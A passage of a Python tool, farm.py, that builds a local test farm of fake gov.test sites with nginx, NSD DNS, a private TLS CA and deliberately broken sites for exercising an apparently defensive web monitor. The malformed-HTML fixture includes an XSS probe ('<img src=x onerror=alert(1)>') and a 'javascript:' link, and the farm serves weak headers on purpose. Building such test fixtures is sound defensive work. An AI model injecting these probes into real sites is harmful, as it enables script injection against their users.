    os.makedirs(sh, exist_ok=True)
    files = {"robots.txt": b"User-agent: *\nDisallow: /admin/\nDisallow: /login\n"}
    for t in range(3):
        files["style-%d.css" % t] = STYLE_CSS[t].encode()
        files["logo-%d.svg" % t] = (LOGO_SVG % (["#0b4f8a", "#00695c", "#336699"][t], "GOV")).encode()
    for name, data in files.items():
        write_atomic(os.path.join(sh, name), data)


def _write_sites(sites_dir, seed, n, base):
    """Write sites 1..n, in a few forked processes when there are many."""
    workers = min(os.cpu_count() or 1, 4) if n >= 400 else 1
    bounds = [1 + n * k // workers for k in range(workers + 1)]
    children = []
    for k in range(1, workers):
        pid = os.fork()
        if pid == 0:
            code = 0
            try:
                for i in range(bounds[k], bounds[k + 1]):
                    write_site(sites_dir, seed, i, n, base)
            except BaseException as e:  # report and leave without running the parent's cleanup
                sys.stderr.write("farm.py: writing sites failed: %s\n" % e)
                code = 1
            finally:
                os._exit(code)
        children.append(pid)
    err = None
    try:
        for i in range(bounds[0], bounds[1]):
            write_site(sites_dir, seed, i, n, base)
    except OSError as e:
        err = e
    for pid in children:
        _, st = os.waitpid(pid, 0)
        if os.waitstatus_to_exitcode(st) != 0 and err is None:
            err = "a writer process failed"
    if err:
        raise FarmError("cannot write the sites in %s: %s" % (sites_dir, err))


def write_bad_sites(sites_dir, seed):
    r = random.Random(seed * 31337 + 5)
    for label in BAD_SITES:
        os.makedirs(os.path.join(sites_dir, bad_name(label)), exist_ok=True)
    # bad-loop: nginx answers every request with a redirect (see site.conf);
    # the file is only there so that the site "exists".
    with open(os.path.join(sites_dir, bad_name("bad-loop"), "index.html"), "wb") as f:
        f.write(b"<!DOCTYPE html><title>loop</title><p>You should have been redirected.</p>\n")
    # bad-huge: a 20 MB page of valid, repetitive HTML.
    chunk = ("<p>این یک صفحه بسیار بزرگ است. This is a very large page, line %06d.</p>\n")
    para = "".join(chunk % k for k in range(200)).encode()
    with open(os.path.join(sites_dir, bad_name("bad-huge"), "index.html"), "wb") as f:
        f.write(b"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>huge</title></head><body>\n")
        total = 0
        target = 20 * 1024 * 1024
        while total < target:
            f.write(para)
            total += len(para)
        f.write(b"</body></html>\n")
    # bad-binary: 512 KiB of random bytes, served as text/html.
    with open(os.path.join(sites_dir, bad_name("bad-binary"), "index.html"), "wb") as f:
        f.write(r.randbytes(512 * 1024))
    # bad-slow: served by the keeper's trickle server (nginx proxies to it too).
    with open(os.path.join(sites_dir, bad_name("bad-slow"), "index.html"), "wb") as f:
        f.write(b"<!DOCTYPE html><title>slow</title><p>see the slow port</p>\n")
    # bad-malformed: broken HTML with 10,000 nesting levels.
    parts = ['<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>malformed <b>title',
             '<meta name="x" content="unterminated>\n<script>var x = "</scr" + "ipt>"; if (a < b && c > d) {',
             '</head><body><p>unclosed <b>bold <i>italic <a href="/x>broken link\n<table><tr><td>cell</tr>',
             '<div>' * 10000, 'deep ', '<span>' * 500, '&amp &#xZZ; &#99999999; &notanentity;',
             '</td></td></td></table></div></p></li></ul>',
             '<svg><foreignObject><math><mi><style><img src=x onerror=alert(1)>',
             '<!-- unterminated comment <p>more text ', '<![CDATA[ stray ]]>', '\x00\x01 nulls and controls',
             '<a href="javascript:void(0)"<<<>>>', '</div>' * 3000, '</body>\n']
    with open(os.path.join(sites_dir, bad_name("bad-malformed"), "index.html"), "wb") as f:
        f.write("".join(parts).encode("utf-8", "surrogatepass"))


# ---------------------------------------------------------------------------
# nginx and NSD configuration

def nginx_version():
    try:
        out = subprocess.run([NGINX, "-v"], capture_output=True, text=True, timeout=10)
    except OSError as e:
        raise FarmError("cannot run %s: %s" % (NGINX, e))
    m = re.search(r"nginx/([\w.]+)", out.stderr + out.stdout)
    return m.group(1) if m else "unknown"


def write_nginx_conf(d, cfg, profiles, verbose_names):
    ng = os.path.join(d, "nginx")
    for sub in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
        os.makedirs(os.path.join(ng, "tmp", sub), exist_ok=True)
    listens = ["listen %s:%d%s;" % (LOOPBACK, cfg["http_port"], "{ds}"),
               "listen %s:%d ssl http2%s;" % (LOOPBACK, cfg["https_port"], "{ds}")]
    if cfg["ipv6"]:
        listens += ["listen [::1]:%d%s;" % (cfg["http_port"], "{ds}"),
                    "listen [::1]:%d ssl http2%s;" % (cfg["https_port"], "{ds}")]
    default_listen = "\n    ".join(x.format(ds=" default_server") for x in listens)
    other_listen = "\n    ".join(x.format(ds="") for x in listens)
    user = ""
    if os.geteuid() == 0:
        import pwd
        user = "user %s;\n" % pwd.getpwuid(os.geteuid()).pw_name
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    nofile = 65536 if hard == resource.RLIM_INFINITY else min(65536, hard)
    logs = os.path.join(d, "logs")
    access = ("access_log %s/access.log;" % logs) if cfg.get("access_log") else "access_log off;"
    conf = """# generated by farm.py; do not edit
%(user)sworker_processes 2;
daemon off;
master_process on;
pid %(run)s/nginx-own.pid;
error_log %(logs)s/nginx-error.log warn;
worker_rlimit_nofile %(nofile)d;
events { worker_connections %(wconn)d; }
http {
  types {
    text/html html htm;
    text/css css;
    application/javascript js;
    image/svg+xml svg;
    text/plain txt;
    application/json json;
    image/png png;
    image/x-icon ico;
  }
  default_type application/octet-stream;
  charset utf-8;
  charset_types text/css text/plain application/javascript;
  %(access)s
  sendfile on;
  tcp_nopush on;
  keepalive_timeout 30;
  keepalive_requests 1000;
  server_tokens off;
  client_body_temp_path %(ng)s/tmp/body;
  proxy_temp_path %(ng)s/tmp/proxy;
  fastcgi_temp_path %(ng)s/tmp/fastcgi;
  uwsgi_temp_path %(ng)s/tmp/uwsgi;
  scgi_temp_path %(ng)s/tmp/scgi;
  map_hash_max_size 65536;
  map_hash_bucket_size 128;
  server_names_hash_max_size 65536;
  server_names_hash_bucket_size 128;
  ssl_certificate %(tls)s/site.pem;
  ssl_certificate_key %(tls)s/site.key;
  ssl_protocols TLSv1.2 TLSv1.3;
  ssl_session_cache shared:farm:8m;
  include %(ng)s/maps.conf;
  server {
    %(dl)s
    server_name _;
    include %(ng)s/site.conf;
  }
  server {
    %(ol)s
    include %(ng)s/verbose_names.conf;
    server_tokens on;
    include %(ng)s/site.conf;
  }
}
""" % {"user": user, "run": os.path.join(d, "run"), "logs": logs, "access": access,
       "ng": ng, "tls": os.path.join(d, "tls"), "dl": default_listen, "ol": other_listen,
       "nofile": nofile, "wconn": max(512, min(8192, nofile // 2 - 64))}
    site_conf = """# generated by farm.py; included by both server blocks
root %(d)s/sites/$host;
index index.html;
absolute_redirect off;
if (-f %(d)s/flags/$host.down) { return 503; }
if (-f %(d)s/flags/$host.close) { return 444; }
if (-f %(d)s/flags/$host.hang) { rewrite ^ /__farm_hang$uri last; }
if ($host = bad-loop.gov.test) { return 302 $farm_loop_next; }
if ($host = bad-slow.gov.test) { rewrite ^ /__farm_slow$uri last; }
add_header Strict-Transport-Security $farm_hsts;
add_header Content-Security-Policy $farm_csp;
add_header X-Frame-Options $farm_xfo;
add_header X-Content-Type-Options $farm_xcto;
add_header Referrer-Policy $farm_referrer;
add_header X-Powered-By $farm_powered;
location / { }
location ^~ /__farm_ {
  internal;
  proxy_pass http://127.0.0.1:%(slow)d;
  proxy_buffering off;
  proxy_read_timeout 1h;
  proxy_set_header Host $host;
}
""" % {"d": d, "slow": cfg["slow_port"]}
    maps = ["map $uri $farm_loop_next { /loop/a /loop/b; default /loop/a; }",
            "map $host $farm_prof {",
            "  default \"\";"]
    maps += ["  %s %s;" % (n, h) for n, h in profiles if h]
    maps.append("}")
    maps.append("""map $farm_prof $farm_hsts { ~H "max-age=31536000; includeSubDomains"; ~h "max-age=86400"; default ""; }
map $farm_prof $farm_csp {
  ~C "default-src 'self'; script-src 'self'; object-src 'none'; frame-ancestors 'self'; base-uri 'self'";
  ~c "default-src * 'unsafe-inline' 'unsafe-eval' data:";
  default "";
}
map $farm_prof $farm_xfo { ~F SAMEORIGIN; ~f DENY; default ""; }
map $farm_prof $farm_xcto { ~N nosniff; default ""; }
map $farm_prof $farm_referrer { ~R strict-origin-when-cross-origin; default ""; }
map $farm_prof $farm_powered { ~1 PHP/5.6.40; ~2 PHP/7.4.33; ~3 ASP.NET; ~4 PHP/8.2.7; default ""; }
""")
    names = verbose_names or ["farm-verbose.invalid"]
    with open(os.path.join(ng, "maps.conf"), "w") as f:
        f.write("\n".join(maps))
    with open(os.path.join(ng, "site.conf"), "w") as f:
        f.write(site_conf)
    with open(os.path.join(ng, "verbose_names.conf"), "w") as f:
        f.write("server_name\n" + "".join("  %s\n" % n for n in names) + ";\n")
    with open(os.path.join(ng, "nginx.conf"), "w") as f:
        f.write(conf)


def dns_name_wire(name):
    out = b""
    for label in name.rstrip(".").split("."):
        if not label or len(label) > 63:
            raise FarmError("bad DNS name %r" % name)
        out += bytes([len(label)]) + label.encode("ascii")
    return out + b"\0"


# The farm's DNS is NSD, an authoritative-only server that looks names up in
# a tree (dnsmasq, before it, scanned its record list on every query and
# spent more CPU than the monitor it served). Every site is a zone of its
# own, delegated from gov.test: a site's NS set is apex data of its zone (a
# name with NS records inside gov.test would be a zone cut, answered with a
# referral), and the parent side of the delegation is what a registry
# hijack changes. Zone files are written whole and renamed into place;
# SIGHUP makes NSD re-read the files whose mtime changed, in a forked
# reload process, while the old one keeps answering (no gap, unlike a
# restart).
SOA_TIMERS = "3600 600 604800 60"  # refresh, retry, expire, negative TTL


def zone_quote(v):
    return '"%s"' % v.replace("\\", "\\\\").replace('"', '\\"')


def caa_rr(value):
    """'issue letsencrypt.org', 'letsencrypt.org' or '!issue x' -> CAA rdata."""
    parts = value.split(None, 1)
    tag, val = (parts[0], parts[1]) if len(parts) == 2 else ("issue", parts[0])
    flags = 0
    if tag.startswith("!"):  # '!issue x' sets the critical flag
        flags, tag = 128, tag[1:]
    if not re.fullmatch(r"[A-Za-z0-9]{1,15}", tag):
        raise FarmError("%r is not a CAA tag" % tag)
    return "%d %s %s" % (flags, tag, zone_quote(val))


def site_records(caa):
    """The records of a new site's zone: {type: [rdata, ...]}."""
    return {"NS": [h + "." for h in NAMESERVERS], "A": [LOOPBACK], "AAAA": ["::1"],
            "MX": ["10 %s." % MAIL_HOST], "CAA": [caa_rr(caa)]}


def zone_text(origin, serial, ttl, recs, extra=()):
    """A zone file: SOA, the apex records recs ({type: [rdata]}) in a fixed
    order, then extra lines (owner names relative to origin)."""
    out = ["; generated by farm.py; edited by dns-set", "$ORIGIN %s." % origin, "$TTL %d" % ttl,
           "@ SOA ns1.%s. hostmaster.%s. %d %s" % (DOMAIN, DOMAIN, serial, SOA_TIMERS)]
    for t in ("NS", "A", "AAAA", "MX", "CAA"):
        out += ["@ %s %s" % (t, v) for v in recs.get(t, [])]
    return "\n".join(out + list(extra)) + "\n"


def read_zone(path):
    """(serial, {type: [rdata]}, other lines) of a zone file zone_text wrote."""
    serial, recs, extra = 1, {}, []
    with open(path) as f:
        for ln in f.read().splitlines():
            if not ln or ln[0] in ";$":
                continue
            owner, t, rdata = (ln.split(None, 2) + ["", ""])[:3]
            if owner != "@":
                extra.append(ln)
            elif t == "SOA":
                serial = int(rdata.split()[2])
            else:
                recs.setdefault(t, []).append(rdata)
    return serial, recs, extra


def parent_extra(delegations):
    """gov.test's own hosts and one delegation per site ({site: [ns, ...]})."""
    out = []
    for h in NAMESERVERS + [MAIL_HOST]:
        label = h[:-len(DOMAIN) - 1]
        out += ["%s A %s" % (label, LOOPBACK), "%s AAAA ::1" % label]
    for name, hosts in delegations:
        out += ["%s. NS %s." % (name, h.rstrip(".")) for h in hosts]
    return out


def write_dns_conf(d, cfg, sites):
    dd = os.path.join(d, "dns")
    zd = os.path.join(dd, "zones")
    os.makedirs(zd, exist_ok=True)
    ttl = cfg.get("dns_ttl", 0)
    conf = [
        "# generated by farm.py: NSD, authoritative for gov.test and each site's zone",
        "server:",
        "  ip-address: %s@%d" % (LOOPBACK, cfg["dns_port"]),
        "  port: %d" % cfg["dns_port"],
        "  do-ip4: yes", "  do-ip6: no",
        '  username: ""', '  chroot: ""',  # no change of user: runs as whoever starts the farm
        '  zonesdir: "%s"' % zd,
        '  database: ""',  # zones in memory only, read from the zone files
        '  pidfile: ""',  # the keeper writes run/nsd.pid
        '  xfrdfile: "%s"' % os.path.join(dd, "xfrd.state"),
        '  xfrdir: "%s"' % dd,
        '  zonelistfile: "%s"' % os.path.join(dd, "zone.list"),
        '  logfile: "%s"' % os.path.join(d, "logs", "nsd.log"),
        "  server-count: 1", "  verbosity: 0", "  hide-version: yes",
        "remote-control:", "  control-enable: no",
        "pattern:", "  name: site", '  zonefile: "%s.zone"',
        "zone:", "  name: %s" % DOMAIN, '  zonefile: "%s.zone"' % DOMAIN,
    ]
    for name, caa in sites:
        conf += ["zone:", "  name: %s" % name, "  include-pattern: site"]
        with open(os.path.join(zd, name + ".zone"), "w") as f:
            f.write(zone_text(name, 1, ttl, site_records(caa)))
    parent = {"NS": [h + "." for h in NAMESERVERS]}
    write_atomic(os.path.join(zd, DOMAIN + ".zone"),
                 zone_text(DOMAIN, 1, ttl, parent, parent_extra((n, NAMESERVERS) for n, _ in sites)).encode())
    write_atomic(os.path.join(dd, "nsd.conf"), ("\n".join(conf) + "\n").encode())


# ---------------------------------------------------------------------------
# TLS

def ensure_tls(d):
    t = os.path.join(d, "tls")
    os.makedirs(t, exist_ok=True)
    ca, cakey = os.path.join(t, "ca.pem"), os.path.join(t, "ca.key")
    crt, key = os.path.join(t, "site.pem"), os.path.join(t, "site.key")
    if all(os.path.exists(x) for x in (ca, cakey, crt, key)) and _cert_ok(crt, ca):
        return ca

    def run(args, **kw):
        p = subprocess.run([OPENSSL] + args, capture_output=True, text=True, **kw)
        if p.returncode != 0:
            raise FarmError("openssl %s failed: %s" % (args[0], p.stderr.strip()))

    run(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", cakey, "-out", ca, "-days", "3650", "-subj", "/O=Parapet site farm/CN=Parapet farm CA",
         "-addext", "basicConstraints=critical,CA:TRUE",
         "-addext", "keyUsage=critical,keyCertSign,cRLSign"])
    csr = os.path.join(t, "site.csr")
    run(["req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
         "-keyout", key, "-out", csr, "-subj", "/O=Parapet site farm/CN=*.gov.test"])
    ext = os.path.join(t, "site.ext")
    with open(ext, "w") as f:
        f.write("basicConstraints=critical,CA:FALSE\n"
                "keyUsage=critical,digitalSignature,keyEncipherment\n"
                "extendedKeyUsage=serverAuth\n"
                "subjectAltName=DNS:*.gov.test,DNS:gov.test\n")
    run(["x509", "-req", "-in", csr, "-CA", ca, "-CAkey", cakey, "-CAcreateserial",
         "-out", crt, "-days", "825", "-sha256", "-extfile", ext])
    for x in (cakey, key):
        os.chmod(x, 0o600)
    return ca


def _cert_ok(crt, ca):
    try:
        ctx = ssl.create_default_context(cafile=ca)
        del ctx
        p = subprocess.run([OPENSSL, "verify", "-CAfile", ca, crt], capture_output=True, text=True)
        if p.returncode != 0:
            return False
        p = subprocess.run([OPENSSL, "x509", "-in", crt, "-noout", "-checkend", str(7 * 86400)],
                           capture_output=True, text=True)
        return p.returncode == 0
    except (OSError, ssl.SSLError):
        return False


# ---------------------------------------------------------------------------
# Small helpers

def write_atomic(path, data):
    tmp = "%s.tmp%d" % (path, os.getpid())
    with open(tmp, "wb") as f:
        f.write(data)
    os.replace(tmp, path)


def ipv6_loopback():
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.bind(("::1", 0))
        s.close()
        return True
    except OSError:
        return False


def choose_ports(wanted, ipv6):
    """wanted: {key: port or 0}; 0 picks a free port. 'dns' also needs UDP."""
    held = []
    out = {}
    try:
        for key, port in wanted.items():
            for _attempt in range(50):
                socks = []
                try:
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    socks.append(s)
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    s.bind((LOOPBACK, port))
                    p = s.getsockname()[1]
                    if key == "dns_port":
                        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                        socks.append(u)
                        u.bind((LOOPBACK, p))
                    if ipv6 and key in ("http_port", "https_port"):
                        s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                        socks.append(s6)
                        s6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                        s6.bind(("::1", p))
                    out[key] = p
                    held += socks
                    break
                except OSError as e:
                    for x in socks:
                        x.close()
                    if port:
                        raise FarmError("port %d for %s is not free: %s" % (port, key, e))
            else:
                raise FarmError("could not find a free port for %s" % key)
    finally:
        for s in held:
            s.close()
    return out


def proc_cmdline(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return f.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return None


def proc_starttime(pid):
    try:
        with open("/proc/%d/stat" % pid) as f:
            s = f.read()
        return int(s[s.rindex(")") + 2:].split()[19])
    except (OSError, ValueError, IndexError):
        return None


def pid_alive(pid):
    if not pid or pid <= 0:
        return False
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    # a zombie is not alive
    try:
        with open("/proc/%d/stat" % pid) as f:
            s = f.read()
        return s[s.rindex(")") + 2] != "Z"
    except (OSError, ValueError, IndexError):
        return True


def read_pid(path):
    try:
        with open(path) as f:
            return int(f.read().split()[0])
    except (OSError, ValueError, IndexError):
        return 0


def ours(pid, d, what):
    """True if pid is a live process of this farm (guards against pid reuse)."""
    if not pid_alive(pid):
        return False
    return _cmd_is(proc_cmdline(pid) or "", d, what)


def _cmd_is(cmd, d, what):
    if what == "keeper":
        return "_keeper" in cmd and (" --dir %s " % d) in cmd + " "
    if what == "nginx":
        return "nginx" in cmd and (d + "/nginx/") in cmd
    if what == "nsd":
        return "nsd" in cmd and (d + "/dns/") in cmd
    return False


def resolve_dir(d):
    if not d:
        raise FarmError("--dir is required")
    return os.path.abspath(d)


def load(d):
    """The farm's state (farm.json) as a dict."""
    d = resolve_dir(d)
    try:
        with open(os.path.join(d, "farm.json")) as f:
            return json.load(f)
    except FileNotFoundError:
        raise FarmError("no farm in %s (farm.json missing; run start)" % d)


def run_config(d):
    try:
        with open(os.path.join(d, "run", "config.json")) as f:
            return json.load(f)
    except FileNotFoundError:
        raise FarmError("no farm in %s (run start first)" % d)


def site_arg(d, site):
    """Accept s00042.gov.test, s00042, 42 or bad-loop; return the full name."""
    s = str(site).strip().lower().rstrip(".")
    if s.isdigit():
        s = site_name(int(s))
    elif not s.endswith("." + DOMAIN):
        s = s + "." + DOMAIN
    if not os.path.isdir(os.path.join(d, "sites", s)):
        raise FarmError("no site %s in %s" % (s, d))
    return s


# ---------------------------------------------------------------------------
# DNS client (enough for readiness checks and tests; no dependencies)

QTYPES = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "MX": 15, "TXT": 16, "AAAA": 28, "CAA": 257, "ANY": 255}
RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def _read_name(msg, off):
    labels = []
    jumped = False
    end = off
    for _ in range(128):
        n = msg[off]
        if n == 0:
            off += 1
            break
        if n & 0xC0 == 0xC0:
            ptr = ((n & 0x3F) << 8) | msg[off + 1]
            if not jumped:
                end = off + 2
            jumped = True
            off = ptr
            continue
        labels.append(msg[off + 1:off + 1 + n].decode("ascii", "replace"))
        off += 1 + n
    if not jumped:
        end = off
    return ".".join(labels), end


def dns_query(port, name, qtype="A", server=LOOPBACK, timeout=2.0):
    """Ask the farm's DNS server; returns (rcode, [rdata as text, ...]).

    port may also be a farm directory. Answers only of the asked type are
    returned, in a normalized text form: A/AAAA the address, NS/CNAME the
    name, MX 'prio host', CAA 'flags tag "value"', TXT the text, SOA its
    fields; others as hex."""
    if isinstance(port, str):
        port = load(port)["dns_port"]
    qt = QTYPES[qtype.upper()] if isinstance(qtype, str) else int(qtype)
    qid = random.randrange(65536)
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + dns_name_wire(name) + struct.pack("!HH", qt, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.settimeout(timeout)
        s.sendto(q, (server, port))
        deadline = time.monotonic() + timeout
        while True:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            msg, _ = s.recvfrom(65535)
            if len(msg) >= 12 and struct.unpack("!H", msg[:2])[0] == qid:
                break
    finally:
        s.close()
    _, flags, qd, an, _, _ = struct.unpack("!HHHHHH", msg[:12])
    off = 12
    for _ in range(qd):
        _, off = _read_name(msg, off)
        off += 4
    out = []
    for _ in range(an):
        _, off = _read_name(msg, off)
        rtype, _, _, rdlen = struct.unpack("!HHIH", msg[off:off + 10])
        off += 10
        rd = msg[off:off + rdlen]
        if rtype == qt or qt == 255:
            if rtype == 1:
                out.append(socket.inet_ntop(socket.AF_INET, rd))
            elif rtype == 28:
                out.append(socket.inet_ntop(socket.AF_INET6, rd))
            elif rtype in (2, 5):
                out.append(_read_name(msg, off)[0])
            elif rtype == 15:
                out.append("%d %s" % (struct.unpack("!H", rd[:2])[0], _read_name(msg, off + 2)[0]))
            elif rtype == 257:
                tl = rd[1]
                out.append('%d %s "%s"' % (rd[0], rd[2:2 + tl].decode(), rd[2 + tl:].decode()))
            elif rtype == 16:
                out.append(rd[1:1 + rd[0]].decode("utf-8", "replace"))
            elif rtype == 6:
                m, o2 = _read_name(msg, off)
                rn, o3 = _read_name(msg, o2)
                out.append("%s %s %d %d %d %d %d" % ((m, rn) + struct.unpack("!IIIII", msg[o3:o3 + 20])))
            else:
                out.append(rd.hex())
        off += rdlen
    return RCODES.get(flags & 0xF, str(flags & 0xF)), out


# ---------------------------------------------------------------------------
# HTTP helper

def http_get(d_or_farm, site, path="/", https=False, timeout=10.0):
    """GET a farm page straight from the farm's nginx (no DNS involved).

    Returns (status, headers dict with lower-case names, body bytes)."""
    farm = d_or_farm if isinstance(d_or_farm, dict) else load(d_or_farm)
    if https:
        ctx = ssl.create_default_context(cafile=farm["ca_file"])
        # SNI and the certificate check use the site's name; the TCP
        # connection goes to the farm's address.
        c = http.client.HTTPSConnection(site, farm["https_port"], timeout=timeout, context=ctx)
    else:
        c = http.client.HTTPConnection(site, farm["http_port"], timeout=timeout)
    c._create_connection = lambda addr, tmo=None, src=None: socket.create_connection(
        (LOOPBACK, addr[1]), tmo, src)
    try:
        c.request("GET", path, headers={"Host": site, "User-Agent": "farm.py"})
        r = c.getresponse()
        body = r.read()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, body
    finally:
        c.close()


# ---------------------------------------------------------------------------
# The keeper: parent of nginx and NSD, slow server, watchdog

def _pdeathsig():
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(1, signal.SIGTERM)  # PR_SET_PDEATHSIG
    except Exception:
        pass


class Keeper:
    def __init__(self, d):
        self.d = d
        self.cfg = run_config(d)
        self.run = os.path.join(d, "run")
        self.procs = {}
        self.stopping = False
        self.sel = selectors.DefaultSelector()
        self.conns = {}
        self.interval = float(self.cfg.get("slow_interval", 5.0))

    def log(self, msg):
        sys.stdout.write("%s keeper[%d]: %s\n" % (time.strftime("%H:%M:%S"), os.getpid(), msg))
        sys.stdout.flush()

    def spawn(self, what):
        d = self.d
        if what == "nginx":
            args = [NGINX, "-p", os.path.join(d, "nginx"), "-e", os.path.join(d, "logs", "nginx-error.log"),
                    "-c", os.path.join(d, "nginx", "nginx.conf")]
        else:
            # -d: in the foreground, so the keeper is its parent. NSD keeps
            # its first process (it becomes xfrd) and forks the server and,
            # on each SIGHUP, a reload process: all in this session, which
            # terminate() kills as a group.
            args = [NSD, "-d", "-c", os.path.join(d, "dns", "nsd.conf")]
        logf = open(os.path.join(d, "logs", what + ".out"), "ab")
        p = subprocess.Popen(args, stdin=subprocess.DEVNULL, stdout=logf, stderr=logf,
                             start_new_session=True, preexec_fn=_pdeathsig, cwd=d)
        logf.close()
        self.procs[what] = p
        write_atomic(os.path.join(self.run, what + ".pid"), b"%d\n" % p.pid)
        self.log("started %s pid %d" % (what, p.pid))
        return p

    def terminate(self, what, timeout=5.0):
        p = self.procs.pop(what, None)
        if not p:
            return
        if p.poll() is None:
            try:
                os.killpg(p.pid, signal.SIGTERM)
            except ProcessLookupError:
                pass
            try:
                p.wait(timeout)
            except subprocess.TimeoutExpired:
                self.log("%s ignored SIGTERM; killing" % what)
        try:
            os.killpg(p.pid, signal.SIGKILL)  # leftover workers, if any
        except ProcessLookupError:
            pass
        try:
            p.wait(2)
        except subprocess.TimeoutExpired:
            pass
        try:
            os.unlink(os.path.join(self.run, what + ".pid"))
        except FileNotFoundError:
            pass
        self.log("stopped %s" % what)

    # -- slow server (selectors, no threads) --
    def accept(self, lsock):
        for _ in range(64):
            try:
                c, _ = lsock.accept()
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                return
            if len(self.conns) >= 4000:
                c.close()
                continue
            c.setblocking(False)
            self.conns[c] = {"buf": b"", "mode": None, "t": time.monotonic(), "next": 0.0, "sent": 0}
            self.sel.register(c, selectors.EVENT_READ, "conn")

    def drop(self, c):
        self.conns.pop(c, None)
        try:
            self.sel.unregister(c)
        except (KeyError, ValueError):
            pass
        c.close()

    def readable(self, c):
        st = self.conns.get(c)
        if st is None:
            return
        try:
            data = c.recv(16384)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            data = b""
        if not data:
            self.drop(c)
            return
        if st["mode"] is None:
            st["buf"] += data
            if b"\r\n\r\n" in st["buf"] or b"\n\n" in st["buf"] or len(st["buf"]) > 16384:
                line = st["buf"].split(b"\n", 1)[0].split()
                path = line[1].decode("latin-1") if len(line) > 1 else "/"
                st["buf"] = b""
                if path.startswith("/__farm_hang"):
                    st["mode"] = "hang"  # read and discard until the client gives up
                else:
                    st["mode"] = "slow"
                    hdr = (b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\n"
                           b"Content-Length: 1048576\r\nCache-Control: no-cache\r\n\r\n")
                    try:
                        c.send(hdr)
                    except OSError:
                        self.drop(c)
                        return
                    st["next"] = time.monotonic() + self.interval

    def trickle(self, now):
        body = b"<!DOCTYPE html><html><body><p>slow...</p>"
        nxt = now + 1.0
        for c, st in list(self.conns.items()):
            if st["mode"] is None and now - st["t"] > 30:
                self.drop(c)
            elif st["mode"] == "slow":
                if st["next"] <= now:
                    try:
                        c.send(body[st["sent"] % len(body):][:1])
                        st["sent"] += 1
                    except OSError:
                        self.drop(c)
                        continue
                    st["next"] = now + self.interval
                nxt = min(nxt, st["next"])
        return nxt

    def watched_gone(self):
        wp = self.cfg.get("watch_pid") or 0
        if wp:
            if not pid_alive(wp):
                return "watched process %d is gone" % wp
            st = self.cfg.get("watch_start")
            if st is not None and proc_starttime(wp) != st:
                return "watched process %d is gone (pid reused)" % wp
        ttl = self.cfg.get("ttl") or 0
        if ttl and time.time() > self.cfg["started"] + ttl:
            return "ttl of %d s expired" % ttl
        if read_pid(os.path.join(self.run, "keeper.pid")) != os.getpid():
            return "keeper.pid no longer names this keeper"
        return None

    def main(self):
        os.makedirs(self.run, exist_ok=True)
        rfd, wfd = socket.socketpair()
        rfd.setblocking(False)
        wfd.setblocking(False)
        signal.set_wakeup_fd(wfd.fileno(), warn_on_full_buffer=False)

        def on_term(signum, frame):
            self.stopping = True

        signal.signal(signal.SIGTERM, on_term)
        signal.signal(signal.SIGINT, on_term)
        signal.signal(signal.SIGHUP, on_term)
        signal.signal(signal.SIGCHLD, lambda s, f: None)
        self.sel.register(rfd, selectors.EVENT_READ, "wake")
        lsock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        lsock.bind((LOOPBACK, self.cfg["slow_port"]))
        lsock.listen(1024)
        lsock.setblocking(False)
        self.sel.register(lsock, selectors.EVENT_READ, "listen")
        write_atomic(os.path.join(self.run, "keeper.pid"), b"%d\n" % os.getpid())
        self.spawn("nginx")
        self.spawn("nsd")
        self.log("farm up: http %d https %d dns %d slow %d" % (
            self.cfg["http_port"], self.cfg["https_port"], self.cfg["dns_port"], self.cfg["slow_port"]))
        last_check = 0.0
        reason = "asked to stop"
        nxt = time.monotonic() + 1
        while not self.stopping:
            timeout = max(0.0, min(nxt - time.monotonic(), 1.0))
            for key, _ in self.sel.select(timeout):
                if key.data == "wake":
                    try:
                        while rfd.recv(512):
                            pass
                    except (BlockingIOError, InterruptedError):
                        pass
                elif key.data == "listen":
                    self.accept(lsock)
                else:
                    self.readable(key.fileobj)
            now = time.monotonic()
            nxt = self.trickle(now)
            if now - last_check >= 0.5:
                last_check = now
                why = self.watched_gone()
                if why:
                    reason = why
                    break
                for what, p in list(self.procs.items()):
                    if p.poll() is not None:
                        self.log("%s exited unexpectedly with status %s; see logs/%s.out"
                                 % (what, p.returncode, what))
                        self.procs.pop(what)
        self.log("stopping: %s" % reason)
        for what in ("nginx", "nsd"):
            self.terminate(what)
        for c in list(self.conns):
            self.drop(c)
        lsock.close()
        if read_pid(os.path.join(self.run, "keeper.pid")) == os.getpid():
            try:
                os.unlink(os.path.join(self.run, "keeper.pid"))
            except FileNotFoundError:
                pass
        self.log("bye")
        return 0


# ---------------------------------------------------------------------------
# Commands

def _kill_leftovers(d, timeout=10.0):
    """Stop every process of the farm in d; returns the list of what was stopped."""
    run = os.path.join(d, "run")
    stopped = []
    kp = read_pid(os.path.join(run, "keeper.pid"))
    if ours(kp, d, "keeper"):
